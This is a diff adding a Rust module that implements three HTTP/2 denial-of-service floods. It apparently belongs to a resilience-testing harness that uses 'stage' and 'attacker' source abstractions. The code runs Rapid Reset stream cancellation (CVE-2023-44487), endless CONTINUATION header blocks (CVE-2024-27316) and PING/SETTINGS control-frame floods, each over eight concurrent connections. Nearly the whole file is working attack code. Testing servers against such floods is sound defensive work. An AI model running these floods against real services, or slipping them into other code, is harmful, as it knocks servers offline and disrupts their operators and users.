@@ -1,0 +1,66 @@
+//! Floods of HTTP/2 frames.
+
+use std::time::Duration;
+
+use super::{Attack, crowd};
+use crate::{
+    http2::{END_STREAM, Http2, encode, field, frame, stream},
+    stage::{Ground, Stage},
+};
+
+/// 8 connections that open streams and reset them at once (CVE-2023-44487).
+pub async fn rapid_resets(stage: &Stage) -> Attack {
+    let ground = stage.ground();
+    crowd(8, move |number| resets(ground.clone(), number))
+}
+
+async fn resets(ground: Ground, number: u32) {
+    const CANCEL: [u8; 4] = 8_u32.to_be_bytes();
+    let Some(connection) = Http2::open(&ground, ground.sources.attacker(number), 65_535).await else { return };
+    for batch in 0.. {
+        let mut frames = Vec::new();
+        for number in batch * 100..(batch + 1) * 100 {
+            frames.extend(connection.get_frame(number, "/openapi.json", &[]));
+            frames.extend(encode(frame::RST_STREAM, 0, stream(number), &CANCEL));
+        }
+        if connection.has_ended() || !connection.write(&frames).await {
+            return;
+        }
+    }
+}
+
+/// 8 connections with a header block that does not end (CVE-2024-27316 and others).
+pub async fn continuations(stage: &Stage) -> Attack {
+    let ground = stage.ground();
+    crowd(8, move |number| endless_block(ground.clone(), number))
+}
+
+async fn endless_block(ground: Ground, number: u32) {
+    let Some(connection) = Http2::open(&ground, ground.sources.attacker(number), 65_535).await else { return };
+    let block = connection.block("GET", "/healthz", &[]);
+    if !connection.send(frame::HEADERS, END_STREAM, stream(0), &block).await {
+        return;
+    }
+    let mut fields = Vec::new();
+    for number in 0..200 {
+        field(&mut fields, &format!("x-{number}"), &"v".repeat(60));
+    }
+    // The last frame of a block has the flag END_HEADERS; this one never comes.
+
+    while !connection.has_ended() && connection.send(frame::CONTINUATION, 0, stream(0), &fields).await {}
+}
+
+/// 8 connections that ask for answers to PING and SETTINGS as fast as they are taken.
+pub async fn pings(stage: &Stage) -> Attack {
+    let ground = stage.ground();
+    crowd(8, move |number| control_frames(ground.clone(), number))
+}
+
+async fn control_frames(ground: Ground, number: u32) {
+    let Some(connection) = Http2::open(&ground, ground.sources.attacker(number), 65_535).await else { return };
+    let pair = [encode(frame::PING, 0, 0, &[1; 8]), encode(frame::SETTINGS, 0, 0, &[])].concat();
+    let frames = pair.repeat(500);
+    while !connection.has_ended() && connection.write(&frames).await {
+        tokio::time::sleep(Duration::from_millis(1)).await;
+    }
+}
